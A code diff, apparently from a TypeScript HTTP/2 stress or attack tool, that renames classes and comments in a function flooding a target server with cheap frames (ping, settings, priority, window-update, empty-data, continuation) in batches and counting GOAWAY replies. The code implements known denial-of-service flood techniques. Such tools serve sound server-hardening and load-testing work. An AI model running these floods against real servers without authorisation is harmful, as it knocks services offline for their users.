@@ -10,34 +10,34 @@ import {
   windowUpdate,
 } from '../../raw-http/http2-frames.ts'
 import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
-import type { AttackTarget, Report } from '../attack.ts'
-import { Crowd } from '../crowd.ts'
+import type { AttackReport, AttackTarget } from '../attack.ts'
+import { ConnectionGroup } from '../connection-group.ts'
 import { type FloodOptions, flood } from './flood.ts'
 
 const BATCH = 200
 
 export type FrameFlood = 'ping' | 'settings' | 'priority' | 'window-update' | 'empty-data' | 'continuation'
 
-/** Frames that cost the sender next to nothing. */
+/** Floods the server with frames that cost their sender almost nothing. */
 export async function floodFrames(
   target: AttackTarget,
   { kind, ...options }: FloodOptions & { kind: FrameFlood },
-): Promise<Report> {
-  const crowd = new Crowd(target, options.signal)
+): Promise<AttackReport> {
+  const group = new ConnectionGroup(target, options.signal)
   const bytes = Buffer.concat(Array.from({ length: BATCH }, (_, index) => frameOf(kind, index)))
-  const count = await flood(crowd, options, {
+  const count = await flood(group, options, {
     open: async () => {
-      const client = await crowd.hastyHttp2({ polite: false })
-      await client.socket.send(beginningOf(client, target, kind))
+      const client = await group.openHttp2WithoutWaiting({ polite: false })
+      await client.socket.send(openingFrames(client, target, kind))
       return client
     },
-    batch: () => ({ bytes, things: BATCH }),
+    batch: () => ({ bytes, units: BATCH }),
   })
-  return { ...count, goaways: crowd.frames(TYPE.goaway), received: crowd.received }
+  return { ...count, goaways: group.countFrames(TYPE.goaway), received: group.received }
 }
 
-/** Some floods are about a stream that is open: stream 1. */
-function beginningOf(client: RawHttp2, target: AttackTarget, kind: FrameFlood): Buffer {
+/** Some floods need an open stream, which is stream 1. */
+function openingFrames(client: RawHttp2, target: AttackTarget, kind: FrameFlood): Buffer {
   const block = client.block(target.manifest)
   if (kind === 'empty-data') return headers(1, block, { endStream: false })
   if (kind === 'continuation') return headers(1, block, { endHeaders: false })
